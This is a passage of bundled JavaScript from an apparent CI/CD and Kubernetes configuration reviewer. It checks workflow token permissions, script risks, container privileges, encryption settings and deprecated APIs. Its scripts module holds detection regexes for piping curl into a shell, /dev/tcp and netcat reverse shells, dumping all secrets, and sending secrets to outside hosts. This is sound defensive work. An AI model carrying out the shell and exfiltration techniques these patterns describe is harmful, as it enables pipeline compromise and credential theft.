var isBare = (document) => !mentions(document.root, (text) => SECRET.test(text)) && jobsOf(document).every(({ node }) => mayOnlyRead(at(node, "permissions") ?? at(document.root, "permissions")));
var SECRET = /(?<![\w-])secrets(?:\.(?!GITHUB_TOKEN\b)|\[|\s*\))|^inherit$/;
var mayOnlyRead = (node) => node?.kind === "scalar" ? node.text === "read-all" : node?.kind === "map" && !mentions(node, (level3) => level3 === "write");
var AFTER_MERGE = /(?:^|[^!.\w])github\.event\.pull_request\.merged\b(?!\s*(?:!=\s*true|==\s*false))/;
function isAfterMerge(job4) {
  const condition2 = textAt(job4, "if") ?? "";
  return AFTER_MERGE.test(condition2) && !outermost(condition2).includes("||");
}
function outermost(condition2) {
  const less = condition2.slice(0, LONGEST_CONDITION2).replace(/\([^()]*\)/g, "");
  return less.length < condition2.length ? outermost(less) : less;
}
var LONGEST_CONDITION2 = 2e3;
function untrustedCheckout(document) {
  const steps2 = jobsOf(document).flatMap((job4) => isAfterMerge(job4.node) ? [] : job4.steps);
  for (const { node, uses } of steps2) {
    const ref = textAt(node, "with", "ref") ?? "";
    if (uses === "actions/checkout" && STRANGE_REF.test(ref)) return at(node, "with", "ref");
  }
  return void 0;
}

// src/domains/config/workflows/permissions.ts
function tokenFacts(pair) {
  const jobs = pairJobs(jobsOf(pair.before), jobsOf(pair.after));
  const gone3 = jobsOf(pair.before).filter((job4) => !jobs.some(({ old }) => old === job4));
  return jobs.flatMap(({ old, job: job4 }) => {
    const after = effective(pair.after, job4);
    const known2 = old ?? gone3.find((other) => covers2(effective(pair.before, other), after));
    return jobFacts({ pair, job: job4, before: effective(pair.before, known2), after, isNew: known2 === void 0 });
  });
}
var covers2 = (wider, narrower) => wider.granted !== void 0 && narrower.granted !== void 0 && raised(wider.granted, narrower.granted).length === 0;
function pairJobs(before3, after) {
  const pairs = pairNamed(before3, after);
  const added2 = pairs.filter((pair) => pair.before === void 0);
  const gone3 = before3.filter((old) => !pairs.some((pair) => pair.before === old));
  const [only] = gone3.length === 1 && added2.length === 1 ? gone3 : [];
  return pairs.map((pair) => ({ old: pair.before ?? only, job: pair.after }));
}
function jobFacts(jobs) {
  const { before: before3, after, isNew } = jobs;
  const job4 = jobs.job.name;
  if (after.granted === void 0) {
    const unset = !isNew && before3.granted !== void 0;
    return unset ? [{ kind: "token-unset", ...whereOf(jobs, "unset", jobs.job.node), job: job4 }] : [];
  }
  const raises = raised(before3.granted ?? NOTHING, after.granted).filter(
    ({ scope, to }) => before3.granted !== void 0 || isNew || saysMore(scope, to)
  );
  const [worst, ...others] = raises;
  if (worst !== void 0) return [widening2(jobs, worst, others)];
  const narrows = !isNew && (before3.granted === void 0 || raised(after.granted, before3.granted).length > 0);
  return narrows ? [{ kind: "token-narrowed", ...whereOf(jobs, "narrowed", after.node), job: job4 }] : [];
}
var NOTHING = { others: "none", scopes: /* @__PURE__ */ new Map() };
var saysMore = (scope, to) => to === "write" && (scope === "*" || scope === "id-token");
function widening2(jobs, worst, others) {
  const block2 = jobs.after.node;
  const node = worst.scope === "*" ? block2 : at(block2, worst.scope) ?? block2;
  const change = [worst, ...others].map(({ scope, from: from3, to }) => `${scope} ${from3}->${to}`).join(", ");
  return {
    kind: "token-widened",
    ...whereOf(jobs, change, node),
    job: jobs.job.name,
    scope: worst.scope,
    ...jobs.before.granted === void 0 ? {} : { from: worst.scope === "*" ? said(jobs.before.granted) : worst.from },
    to: worst.to,
    reach: worst.reach,
    others: others.map(({ scope }) => scope),
    writes: [worst, ...others].filter(({ to }) => to === "write").map(({ scope }) => scope),
    isNew: jobs.isNew,
    forAllJobs: !isOfJob(jobs.job) && jobsOf(jobs.pair.after).length > 1,
    startedByStrangers: isStartedByStrangers(jobs.pair.after),
    isCalled: [...triggersOf(jobs.pair.after).keys()].join() === "workflow_call"
  };
}
function said({ others, scopes }) {
  if (others !== "none") return `${others}-all`;
  return [...scopes].map(([scope, level3]) => `${scope}: ${level3}`).join(", ") || "{}";
}
var isOfJob = ({ node }) => at(node, "permissions") !== void 0;
function whereOf({ pair, job: job4, before: before3 }, change, after) {
  const path27 = isOfJob(job4) ? jobPath(job4.name, "permissions") : [key("permissions")];
  return {
    ...factAt(pair, path27, change, { before: before3.node, after }),
    group: `${pair.path}: permissions#${change}`
  };
}
function effective(document, job4) {
  const node = at(job4?.node, "permissions") ?? at(document?.root, "permissions");
  return { node, granted: permissions(node && written(node)) };
}
function written(node) {
  if (node.kind === "scalar") return node.value === null ? /* @__PURE__ */ new Map() : node.text;
  if (node.kind === "list") return /* @__PURE__ */ new Map();
  return new Map([...node.entries].map(([scope, level3]) => [scope, textsOf(level3)[0] ?? "none"]));
}

// src/domains/config/workflows/scripts.ts
var UNTRUSTED = [
  String.raw`github\.head_ref`,
  String.raw`github\.event\.(?:issue|pull_request|discussion|comment|review|review_comment)\.(?:title|body)`,
  String.raw`github\.event\.(?:pull_request\.head|workflow_run)\.(?:ref|label|head_branch|repo\.default_branch)`,
  String.raw`github\.event\.(?:head_commit|commits\S{0,9}|workflow_run\.head_commit)\.(?:message|author\.(?:name|email))`,
  String.raw`github\.event\.pages\S{0,9}\.page_name`
].join("|");
var ALL_SECRETS = /\$\{\{\s{0,9}toJSON\(\s{0,9}secrets\s{0,9}\)\s{0,9}\}\}/i;
var PATTERNS = [
  { risk: "injection", pattern: new RegExp(String.raw`\$\{\{[^{}]{0,200}?\b(?:${UNTRUSTED})\b[^{}]{0,200}\}\}`) },
  { risk: "all-secrets", pattern: ALL_SECRETS },
  {
    risk: "download",
    pattern: /\b(?:curl|wget)\b[^|\n;&]{0,500}\|\s{0,9}(?:sudo\s{1,9}(?:-\S{1,9}\s{1,9})?)?(?:(?:ba|z|da)?sh|python3?|perl|node)\b|\b(?:ba|z|da)?sh\s{1,9}<\(\s{0,9}(?:curl|wget)\b/
  },
  {
    // A shell that answers to a host elsewhere.
    risk: "remote-shell",
    pattern: /\/dev\/tcp\/|\b(?:nc|ncat|netcat)\b[^\n|;&]{0,200}\s-(?:e|c)\b|\bsocat\b[^\n|;&]{0,200}\bexec:/i
  },
  {
    // Only where the line looks for trouble: `grep … || true` is how scripts are written.
    risk: "ignored-failure",
    pattern: /\b(?:tests?|lint|check|verify|scan|audit|vet)\b[^\n|]{0,200}\|\|\s{0,9}(?:true|:)(?=\s|[;)]|$)/
  }
];
var SENDS_SECRET = /\b(?:curl|wget|nc|ncat)\b[^\n|;&]{0,500}\$\{\{\s{0,9}secrets\.(?!GITHUB_TOKEN\b)[^\n|;]{0,1000}/gi;
var HOSTS = /\bhttps?:\/\/([\w.-]{1,200})/gi;
var OF_GITHUB = /^(?:[\w-]{1,60}\.)?(?:github\.com|githubusercontent\.com|ghcr\.io)$/i;
function sendsSecret(text) {
  return [...text.matchAll(SENDS_SECRET)].some(([command]) => {
    const hosts2 = [...command.matchAll(HOSTS)].map(([, host = ""]) => host);
    return hosts2.length === 0 || !hosts2.every((host) => OF_GITHUB.test(host));
  });
}
var SCRIPT_INPUTS = /* @__PURE__ */ new Map([["actions/github-script", "script"]]);
var WRITES_ENVIRONMENT = />>?\s{0,9}["']?\$\{?(?:GITHUB_ENV|GITHUB_PATH)\b/;
var WRITES_FIXED = /^\s*echo\s+(?:"[^"$`]*"|'[^']*'|[^\s"'$`]+)\s*>>?\s{0,9}["']?\$\{?(?:GITHUB_ENV|GITHUB_PATH)\b/;
var writesEnvironment = (text) => text.split("\n").some((line) => WRITES_ENVIRONMENT.test(line) && (!WRITES_FIXED.test(line) || line.includes("${{")));
var INPUT = /\$\{\{\s{0,9}inputs\.([\w-]{1,100})\s{0,9}\}\}/g;
function scriptFacts(pair) {
  const base = allSteps(pair.before).map((step2) => ({ step: step2, risks: risksOf(step2, pair.before) }));
  const known2 = new Map(base.flatMap(({ step: step2, risks }) => step2.isNamed ? [[step2.label, risks]] : []));
  const anywhere = new Set(base.flatMap(({ risks }) => [...risks]));
  return allSteps(pair.after).flatMap((step2) => {
    const had = known2.get(step2.label) ?? anywhere;
    const isNewStep = !base.some((other) => other.step.label === step2.label);
    return [...risksOf(step2, pair.after)].filter((risk) => !had.has(risk)).map((risk) => ({ ...riskFact(pair, step2, risk), isNewStep }));
  });
}
function riskFact(pair, step2, risk) {
  const label2 = { kind: "item", label: step2.label, name: step2.label };
  return {
    kind: "script-risk",
    ...factAt(pair, [key("steps"), label2, key("run")], risk, { after: scriptOf(step2) ?? step2.node }),
    step: step2.isNamed ? step2.label : `step ${Number(step2.label) + 1}`,
    risk,
    isNew: pair.before === void 0,
    // What a new workflow does in several steps is one decision.
    ...pair.before === void 0 ? { group: `${pair.path}: steps#${risk}` } : {},
    isPinned: /@[0-9a-f]{40}$/.test(textAt(step2.node, "uses") ?? "")
  };
}
function risksOf(step2, document) {
  const text = textsOf(scriptOf(step2)).join("\n").replaceAll("\\\n", " ");
  const found = PATTERNS.filter(({ pattern }) => pattern.test(text)).map(({ risk }) => risk);
  const fills = [...text.matchAll(INPUT)].some(([, name = ""]) => isFreeText(name, document));
  const writes = writesEnvironment(text) && isStartedByStrangers(document);
  const given2 = givenTo(step2);
  return /* @__PURE__ */ new Set([
    ...found,
    ...given2,
    ...fills ? ["input"] : [],
    ...writes ? ["environment"] : [],
    ...sendsSecret(text) ? ["secret-sent"] : []
  ]);
}
var A_SECRET = /\$\{\{[^}]{0,200}(?<![\w-])secrets\.(?!GITHUB_TOKEN\b)\w/i;
var OWN_ACTION = /^(?:actions|github)\/|^\.{1,2}\//;
function givenTo({ node, uses }) {
  const texts = ["env", "with"].flatMap((name) => entriesOf(at(node, name)).flatMap(([, value]) => textsOf(value)));
  const isStrange = uses !== void 0 && !OWN_ACTION.test(uses);
  return [
    ...texts.some((text) => ALL_SECRETS.test(text)) ? ["all-secrets"] : [],
    ...isStrange && texts.some((text) => A_SECRET.test(text)) ? ["secret-given"] : []
  ];
}
function isFreeText(name, document) {
  const input2 = at(document?.root, "on", "workflow_call", "inputs", name);
  return input2 !== void 0 && (textAt(input2, "type") ?? "string") === "string";
}
function scriptOf({ node, uses = "" }) {
  const input2 = SCRIPT_INPUTS.get(uses);
  return input2 === void 0 ? at(node, "run") : at(node, "with", input2);
}

// src/domains/config/dialects/github-workflow.ts
var github_workflow_default = {
  name: "github-workflow",
  recognises: (document) => isWorkflow(document) || isAction(document),
  itemIdentity: (keys, item) => keys.at(-1) === "steps" ? stepIdentity(item) : void 0,
  isObject: (keys) => keys.length === 2 && keys[0] === "jobs",
  closedKeys: (keys) => !FREE_KEYS.has(keys.at(-1) ?? ""),
  owns: ({ keys }) => keys[0] === "on" || keys.includes("permissions") || OWNED_KEYS.has(keys.at(-1) ?? ""),
  effective: gateSettings,
  facts: (pairs) => [
    ...pairs.flatMap((pair) => [...tokenFacts(pair), ...triggerFacts(pair), ...scriptFacts(pair)]),
    ...reviewFacts(pairs)
  ]
};
var FREE_KEYS = /* @__PURE__ */ new Set(["env", "jobs", "services"]);
var OWNED_KEYS = /* @__PURE__ */ new Set(["run", "uses"]);

// src/domains/config/gitlab/model.ts
var GLOBAL = /* @__PURE__ */ new Set([
  "after_script",
  "before_script",
  "cache",
  "default",
  "image",
  "include",
  "pages",
  "services",
  "spec",
  "stages",
  "variables",
  "workflow"
]);
var WORK = ["script", "trigger", "extends", "run"];
var isPipeline = ({ path: path27, root }) => /(?:^|\/)(?:[\w.-]*\.)?gitlab-ci[\w.-]*\.ya?ml$/.test(path27) || /(?:^|\/)\.gitlab\//.test(path27) && hasJobs(root);
var hasJobs = (root) => entriesOf(root).some(([name, node]) => !GLOBAL.has(name) && WORK.some((key3) => at(node, key3) !== void 0));
var isJob = (name, { root }) => !GLOBAL.has(name) && at(root, name)?.kind === "map";
var inJob = (...tail2) => ({ keys, path: path27, document }) => {
  if (path27.at(-1)?.kind === "item") return false;
  const owner = document.after ?? document.before;
  const isOfJob2 = owner !== void 0 && (keys[0] === "default" || isJob(keys[0] ?? "", owner));
  return isOfJob2 && keys.length === 1 + tail2.length && tail2.every((name, i) => keys[1 + i] === name);
};

// src/domains/config/dialects/gitlab-ci.ts
var gitlab_ci_default = {
  name: "gitlab-ci",
  recognises: isPipeline,
  isObject: (keys, document) => keys.length === 1 && isJob(keys[0] ?? "", document),
  closedKeys: (keys) => keys.length > 0 && !FREE_KEYS2.has(keys.at(-1) ?? "")
};
var FREE_KEYS2 = /* @__PURE__ */ new Set(["variables", "id_tokens", "secrets"]);

// src/domains/config/kubernetes/in-values.ts
var settingsInValues = (document) => document.after === void 0 ? [] : [...within(document, document.before?.root, document.after.root, [])];
function* within(document, before3, after, path27) {
  for (const [name, node] of entriesOf(after)) {
    const [old, below6] = [at(before3, name), [...path27, name]];
    const pair = { document, before: old && { node: old }, after: { node } };
    if (/securityContext$/i.test(name)) yield* capabilities(pair, below6);
    else if (/volumes$/i.test(name)) yield* hostPaths(pair, below6);
    else if (node.kind === "map") yield* within(document, old, node, below6);
  }
}
var capabilities = (pair, path27) => capabilitySettings(
  pair,
  ({ node }) => ({
    add: itemsAt(node, "capabilities", "add"),
    drop: itemsAt(node, "capabilities", "drop"),
    privileged: at(node, "privileged")
  }),
  (list) => [...path27, "capabilities", list].map(key)
);
function hostPaths(pair, path27) {
  const [before3, after] = [pathsIn(pair.before?.node), pathsIn(pair.after.node)];
  const setting = (sides) => effectiveSetting(pair, "hostPath", [...path27, "hostPath"].map(key), sides);
  return [
    ...uncoveredPaths(before3, after).map(({ node }) => setting({ after: node })),
    ...uncoveredPaths(after, before3).map(({ node }) => setting({ before: node }))
  ];
}
var pathsIn = (volumes) => itemsAt(volumes).flatMap((volume4) => {
  const node = at(volume4, "hostPath", "path");
  return node?.kind === "scalar" ? [{ path: node.text, node }] : [];
});

// src/domains/config/dialects/helm-values.ts
var helm_values_default = {
  name: "helm-values",
  recognises: ({ path: path27, root }) => /(?:^|\/)values[\w.-]*\.ya?ml$/.test(path27) && root.kind === "map" && at(root, "kind") === void 0,
  /** Every block belongs to a part that can be left out. */
  isObject: () => true,
  effective: settingsInValues
};

// src/domains/config/template-defaults.ts
var LITERAL = String.raw`(?:"([^"{}]*)"|(true|false|-?\d+(?:\.\d+)?))`;
var PIPED = new RegExp(String.raw`^\{\{-?\s?[^|{}"]+\|\s?default ${LITERAL}\s?(?:\|\s?s?quote\s?)?-?\}\}$`);
var CALLED = new RegExp(String.raw`^\{\{-?\s?default ${LITERAL} [^|{}"]+(?:\|\s?s?quote\s?)?-?\}\}$`);
var SHELL = /^\$\{\w+:?-()([^${}]*)\}$/;
function defaultOf(text) {
  const [, quoted, bare2] = PIPED.exec(text) ?? CALLED.exec(text) ?? SHELL.exec(text) ?? [];
  return quoted === void 0 || quoted === "" ? bare2 : quoted;
}
function unsetOf(node) {
  const text = node.kind === "scalar" && isDynamic(node) ? defaultOf(node.text) : void 0;
  return node.kind !== "scalar" || text === void 0 ? node : literal(node, text);
}
function literal(node, text) {
  const value = text === "true" || (text === "false" ? false : text);
  return { ...node, text, value };
}

// src/domains/config/kubernetes/filled-places.ts
function filledPlace(pair, path27) {
  if (at(pair.before?.node, ...path27) === void 0) return void 0;
  const place2 = innermost(pair.after.node, path27);
  return isDynamic(place2) || isFilled(place2, pair) ? place2 : void 0;
}
function isFilled(place2, { document, before: before3, after }) {
  const actions2 = document.after?.filled?.get(place2.line) ?? [];
  if (place2 !== after.node) return actions2.length > 0;
  const known2 = new Set(before3 && document.before?.filled?.get(before3.node.line));
  return actions2.some((action2) => !known2.has(action2));
}
function innermost(owner, path27) {
  const depth = path27.findLastIndex((_, i) => at(owner, ...path27.slice(0, i + 1)) !== void 0);
  return at(owner, ...path27.slice(0, depth + 1)) ?? owner;
}

// src/domains/config/kubernetes/objects.ts
var API_VERSION = /^(?:[a-z0-9.-]+\/)?v\d+(?:(?:alpha|beta)\d+)?$|\{\{/;
var isObject = ({ root }) => API_VERSION.test(textAt(root, "apiVersion") ?? "") && textAt(root, "kind") !== void 0;
var isPatch = ({ before: before3, after }) => (after ?? before3)?.isPatch === true;
var kindOf = (document) => textAt(document?.root, "kind") ?? "";
var groupOf = ({ root }) => {
  const version = textAt(root, "apiVersion") ?? "";
  return version.includes("/") ? version.slice(0, version.indexOf("/")) : "";
};
var nameOf2 = ({ root }) => textAt(root, "metadata", "name") ?? textAt(root, "metadata", "generateName");
var namespaceOf = ({ root }) => textAt(root, "metadata", "namespace") ?? "";
var POD_PATHS = [
  ["spec", "jobTemplate", "spec", "template", "spec"],
  ["spec", "template", "spec"],
  ["template", "spec"],
  ["spec"]
];
var podPathOf = (root) => POD_PATHS.find((path27) => at(root, ...path27, "containers")?.kind === "list");

// src/domains/config/kubernetes/pods.ts
var CONTAINER_LISTS = ["initContainers", "containers", "ephemeralContainers"];
function podOf(document) {
  const path27 = document && podPathOf(document.root);
  const node = path27 && at(document?.root, ...path27);
  return path27 && node && { node, path: path27 };
}
function podPair(document) {
  const after = podOf(document.after);
  return after && { document, before: podOf(document.before), after };
}
function containerPairs(pods) {
  const { document } = pods;
  const { added: added2, matched } = compare(
    containersOf(pods.before),
    containersOf(pods.after),
    ({ list, name }) => `${list}/${name}`
  );
  return [
    ...matched.map(({ before: before3, after }) => ({ document, before: before3, after })),
    ...added2.map((after) => ({ document, before: void 0, after }))
  ];
}
var containersOf = (pod2) => pod2 === void 0 ? [] : CONTAINER_LISTS.flatMap(
  (list) => itemsAt(pod2.node, list).map((node, i) => ({ list, name: textAt(node, "name") ?? `${i}`, node, pod: pod2 }))
);
var podPath = ({ path: path27 }, ...below6) => [...path27, ...below6].map(key);
var containerPath = ({ pod: pod2, list, name }, ...below6) => [
  ...podPath(pod2, list),
  { kind: "item", label: `name=${name}`, name },
  ...below6.map(key)
];

// src/domains/config/kubernetes/effective.ts
var isEffectiveOrApart = (name, ...path27) => (candidate) => isEffective(name)(candidate) || isSecurity(candidate.keys, [name, ...path27]) && podOf(candidate.document.after) === void 0;
var isSecurity = (keys, path27) => /securityContext$/i.test(keys.at(-1 - path27.length) ?? "") && path27.every((key3, i) => keys.at(i - path27.length) === key3);
var INHERITED = [
  ["runAsNonRoot"],
  ["runAsUser"],
  ["runAsGroup"],
  ["seccompProfile", "type"],
  ["appArmorProfile", "type"],
  ["seLinuxOptions", "type"]
];
function effectiveSettings(document) {
  const pods = podPair(document);
  if (pods === void 0) return [];
  const containers = containerPairs(pods);
  return [
    ...hostPaths2(pods),
    ...sysctls(pods),
    ...inherited(pods, containers),
    ...containers.flatMap((pair) => [...capabilities2(pair), ...hostMounts(pair)])
  ];
}
function inherited(pods, containers) {
  return INHERITED.flatMap(([name, ...below6]) => {
    const path27 = ["securityContext", name, ...below6];
    const ofPod = filledPlace(pods, path27);
    return containers.map((pair) => ({
      ...effectiveSetting(pair, name, containerPath(pair.after, ...path27), {
        before: inheritedAt(pair.before, path27),
        after: inheritedAt(pair.after, path27)
      }),
      around: filledPlace(pair, path27) ?? ofPod
    }));
  });
}
var inheritedAt = (container2, path27) => at(container2?.node, ...path27) ?? at(container2?.pod.node, ...path27);
var capabilities2 = (pair) => capabilitySettings(
  pair,
  ({ node }) => ({
    add: itemsAt(node, ...CAPABILITIES, "add"),
    drop: itemsAt(node, ...CAPABILITIES, "drop"),
    privileged: at(node, ...PRIVILEGED)
  }),
  (list) => containerPath(pair.after, ...CAPABILITIES, list)
).map((setting) => ({ ...setting, around: filledPlace(pair, [...CAPABILITIES, setting.path.at(-1)?.name ?? ""]) }));
var CAPABILITIES = ["securityContext", "capabilities"];
var PRIVILEGED = ["securityContext", "privileged"];
function hostPaths2(pods) {
  const path27 = podPath(pods.after, "volumes", "hostPath");
  const [before3, after] = [hostPathsOf(pods.before), hostPathsOf(pods.after)];
  const name = couldMountAll(pods) ? "hostPath.ofPrivileged" : "hostPath";
  return [
    ...uncoveredPaths(before3, after).map(({ node }) => effectiveSetting(pods, name, path27, { after: node })),
    ...uncoveredPaths(after, before3).map(({ node }) => effectiveSetting(pods, "hostPath", path27, { before: node }))
  ];
}
function couldMountAll({ document, before: before3, after }) {
  if (before3 === void 0 && document.after?.isPatch === true) return false;
  const [side2, pod2] = before3 === void 0 ? [document.after, after] : [document.before, before3];
  return itemsAt(pod2.node, "containers").some((each) => isAlwaysOn(side2, each, at(each, ...PRIVILEGED)));
}
var hostPathsOf = (pod2) => scalarsAt(pod2, "volumes", "hostPath", "path").map((node) => ({ path: defaultOf(node.text) ?? node.text, node }));
function hostMounts(pair) {
  const [before3, after] = [mountsOf(pair.before), mountsOf(pair.after)];
  return [...after].flatMap(([mountPath, mount2]) => {
    const old = before3.get(mountPath);
    const sides = { before: at(old, "readOnly"), after: at(mount2, "readOnly") };
    const path27 = containerPath(pair.after, "volumeMounts", mountPath, "readOnly");
    return old === void 0 ? [] : [effectiveSetting(pair, "hostPath.readOnly", path27, sides)];
  });
}
function mountsOf(container2) {
  const volumes = itemsAt(container2?.pod.node, "volumes").filter((volume4) => at(volume4, "hostPath") !== void 0);
  const names2 = new Set(volumes.map((volume4) => textAt(volume4, "name")));
  const mounts = itemsAt(container2?.node, "volumeMounts").filter((mount2) => names2.has(textAt(mount2, "name")));
  return new Map(mounts.map((mount2) => [textAt(mount2, "mountPath") ?? "", mount2]));
}
function sysctls(pods) {
  const known2 = new Set(sysctlsOf(pods.before).map(({ text }) => text));
  const path27 = podPath(pods.after, "securityContext", "sysctls");
  return sysctlsOf(pods.after).filter(({ text }) => !known2.has(text)).map((node) => effectiveSetting(pods, "sysctls", path27, { after: node }));
}
var sysctlsOf = (pod2) => itemsAt(pod2?.node, "securityContext", "sysctls").flatMap((item) => scalar(at(item, "name")));
var scalarsAt = (pod2, list, ...path27) => itemsAt(pod2?.node, list).flatMap((item) => scalar(at(item, ...path27)));
var scalar = (node) => node?.kind === "scalar" ? [node] : [];

// src/domains/config/kubernetes/encryption.ts
function encryptionSettings(document) {
  const { before: before3, after } = document;
  if (kindOf(after) !== "EncryptionConfiguration" || after === void 0) return [];
  const [had, has2] = [writersOf(before3?.root), writersOf(after.root)];
  const owners = { document, before: before3 && { node: before3.root }, after: { node: after.root } };
  return [.../* @__PURE__ */ new Set([...had.keys(), ...has2.keys()])].map(
    (resource3) => effectiveSetting(owners, "encryption", ["resources", resource3].map(key), {
      before: had.get(resource3),
      after: has2.get(resource3)
    })
  );
}
function decryptionSettings(document) {
  const { before: before3, after } = document;
  if (kindOf(after) !== "EncryptionConfiguration" || before3 === void 0 || after === void 0) return [];
  const still = new Set(providersOf(after.root).flatMap(namesOf2));
  const owners = { document, before: { node: before3.root }, after: { node: after.root } };
  return providersOf(before3.root).filter((provider) => !isIdentity(provider) && namesOf2(provider).some((name) => !still.has(name))).map(
    (provider) => effectiveSetting(owners, "decryption", ["resources", "providers"].map(key), { before: provider })
  );
}
var providersOf = (root) => itemsAt(root, "resources").flatMap((group4) => itemsAt(group4, "providers"));
var namesOf2 = (provider) => entriesOf(provider).flatMap(
  ([kind, settings]) => [...itemsAt(settings, "keys"), settings].flatMap(
    (each) => textsOf(at(each, "name")).map((name) => `${kind} ${name}`)
  )
);
var isIdentity = (provider) => entriesOf(provider).some(([name]) => name === "identity");
function writersOf(root) {
  const writers = /* @__PURE__ */ new Map();
  for (const group4 of itemsAt(root, "resources")) {
    const [first] = itemsAt(group4, "providers");
    for (const resource3 of textsOf(at(group4, "resources"))) {
      if (first !== void 0 && !writers.has(resource3)) writers.set(resource3, first);
    }
  }
  return writers;
}

// src/domains/config/kubernetes/fixed.ts
var WHOLE2 = /* @__PURE__ */ new Map([
  [
    "Job",
    [
      ["spec", "template"],
      ["spec", "selector"],
      ["spec", "completionMode"]
    ]
  ],
  ["PersistentVolume", [["spec"]]]
]);
var MUTABLE = [
  "accessModes",
  "capacity",
  "claimRef",
  "mountOptions",
  "nodeAffinity",
  "persistentVolumeReclaimPolicy"
];
var FROZEN = ["data", "stringData", "binaryData", "immutable"];
var HOOKS = ["helm.sh/hook", "argocd.argoproj.io/hook"];
function fixedSettings(document) {
  const { before: before3, after } = document;
  if (before3 === void 0 || after === void 0 || after.isTemplate || !isSame(document)) return [];
  const paths2 = WHOLE2.get(kindOf(after)) ?? (isFrozen(before3.root, kindOf(after)) ? FROZEN.map((name) => [name]) : []);
  const owners = { document, before: { node: before3.root }, after: { node: after.root } };
  return paths2.map(
    (path27) => effectiveSetting(owners, "fixed", path27.map(key), {
      before: fixedPart(at(before3.root, ...path27), path27.length === 1),
      after: fixedPart(at(after.root, ...path27), path27.length === 1)
    })
  );
}
var isSame = ({ before: before3, after }) => before3 !== void 0 && after !== void 0 && nameOf2(after) !== void 0 && at(after.root, "metadata", "generateName") === void 0 && `${kindOf(before3)} ${namespaceOf(before3)} ${nameOf2(before3)}` === `${kindOf(after)} ${namespaceOf(after)} ${nameOf2(after)}` && HOOKS.every((hook) => at(after.root, "metadata", "annotations", hook) === void 0);
var isFrozen = (root, kind) => (kind === "ConfigMap" || kind === "Secret") && switchOf(at(root, "immutable")) === true;
function fixedPart(node, isSpec) {
  if (node?.kind !== "map" || !isSpec) return node;
  return { ...node, entries: new Map(entriesOf(node).filter(([name]) => !MUTABLE.includes(name))) };
}
var unchanged = (node, { before: before3 }) => Number(before3 !== void 0 && signature(node) === signature(before3));

// src/domains/config/kubernetes/fact.ts
var objectFact = (pair, keys, what, sides) => factAt(pair, keys.map(key), `${titleOf(pair)}: ${what}`, sides);
function titleOf({ before: before3, after }) {
  const document = after ?? before3;
  return document === void 0 ? "" : [kindOf(document), nameOf2(document)].filter(Boolean).join("/");
}

// src/domains/config/kubernetes/withdrawals.ts
var gone2 = (version, removedIn, replacement, ...kinds) => ({
  version,
  kinds,
  removedIn,
  replacement,
  product: "Kubernetes"
});
var of = (product, withdrawal) => ({ ...withdrawal, product });
var CERTIFICATES = ["Certificate", "CertificateRequest", "ClusterIssuer", "Issuer"];
var WITHDRAWN = [
  gone2("extensions/v1beta1", "1.16", "apps/v1", "Deployment", "DaemonSet", "ReplicaSet"),
  gone2("extensions/v1beta1", "1.16", "networking.k8s.io/v1", "NetworkPolicy"),
  gone2("extensions/v1beta1", "1.16", "Pod Security Admission", "PodSecurityPolicy"),
  gone2("extensions/v1beta1", "1.22", "networking.k8s.io/v1", "Ingress"),
  gone2("apps/v1beta1", "1.16", "apps/v1", "Deployment", "StatefulSet", "ControllerRevision"),
  gone2("apps/v1beta2", "1.16", "apps/v1", "Deployment", "DaemonSet", "ReplicaSet", "StatefulSet", "ControllerRevision"),
  gone2("networking.k8s.io/v1beta1", "1.22", "networking.k8s.io/v1", "Ingress", "IngressClass"),
  gone2(
    "rbac.authorization.k8s.io/v1alpha1",
    "1.22",
    "rbac.authorization.k8s.io/v1",
    "ClusterRole",
    "ClusterRoleBinding",
    "Role",
    "RoleBinding"
  ),
  gone2(
    "rbac.authorization.k8s.io/v1beta1",
    "1.22",
    "rbac.authorization.k8s.io/v1",
    "ClusterRole",
    "ClusterRoleBinding",
    "Role",
    "RoleBinding"
  ),
  gone2("apiextensions.k8s.io/v1beta1", "1.22", "apiextensions.k8s.io/v1", "CustomResourceDefinition"),
  gone2("apiregistration.k8s.io/v1beta1", "1.22", "apiregistration.k8s.io/v1", "APIService"),
  gone2(
    "admissionregistration.k8s.io/v1beta1",
    "1.22",
    "admissionregistration.k8s.io/v1",
    "MutatingWebhookConfiguration",
    "ValidatingWebhookConfiguration"
  ),
  gone2("certificates.k8s.io/v1beta1", "1.22", "certificates.k8s.io/v1", "CertificateSigningRequest"),
  gone2("coordination.k8s.io/v1beta1", "1.22", "coordination.k8s.io/v1", "Lease"),
  gone2("scheduling.k8s.io/v1beta1", "1.22", "scheduling.k8s.io/v1", "PriorityClass"),
  gone2("scheduling.k8s.io/v1alpha1", "1.17", "scheduling.k8s.io/v1", "PriorityClass"),
  gone2(
    "storage.k8s.io/v1beta1",
    "1.22",
    "storage.k8s.io/v1",
    "CSIDriver",
    "CSINode",
    "StorageClass",
    "VolumeAttachment"
  ),
  gone2("authentication.k8s.io/v1beta1", "1.22", "authentication.k8s.io/v1", "TokenReview"),
  gone2(
    "authorization.k8s.io/v1beta1",
    "1.22",
    "authorization.k8s.io/v1",
    "LocalSubjectAccessReview",
    "SelfSubjectAccessReview",
    "SubjectAccessReview"
  ),
  gone2("batch/v1beta1", "1.25", "batch/v1", "CronJob"),
  gone2("discovery.k8s.io/v1beta1", "1.25", "discovery.k8s.io/v1", "EndpointSlice"),
  gone2("events.k8s.io/v1beta1", "1.25", "events.k8s.io/v1", "Event"),
  gone2("autoscaling/v2beta1", "1.25", "autoscaling/v2", "HorizontalPodAutoscaler"),
  gone2("autoscaling/v2beta2", "1.26", "autoscaling/v2", "HorizontalPodAutoscaler"),
  gone2("policy/v1beta1", "1.25", "policy/v1", "PodDisruptionBudget"),
  gone2("policy/v1beta1", "1.25", "Pod Security Admission", "PodSecurityPolicy"),
  gone2("node.k8s.io/v1beta1", "1.25", "node.k8s.io/v1", "RuntimeClass"),
  gone2("storage.k8s.io/v1beta1", "1.27", "storage.k8s.io/v1", "CSIStorageCapacity"),
  ...["v1beta1", "v1beta2", "v1beta3"].map(
    (version, i) => gone2(
      `flowcontrol.apiserver.k8s.io/${version}`,
      ["1.26", "1.29", "1.32"][i] ?? "1.32",
      "flowcontrol.apiserver.k8s.io/v1",
      "FlowSchema",
      "PriorityLevelConfiguration"
    )
  ),
  gone2("batch/v2alpha1", "1.21", "batch/v1", "CronJob"),
  gone2("settings.k8s.io/v1alpha1", "1.20", "a mutating webhook", "PodPreset"),
  gone2("auditregistration.k8s.io/v1alpha1", "1.19", "flags of the API server", "AuditSink"),
  ...["v1alpha2", "v1alpha3", "v1beta1"].flatMap((version) => [
    of("cert-manager", gone2(`cert-manager.io/${version}`, "1.6", "cert-manager.io/v1", ...CERTIFICATES)),
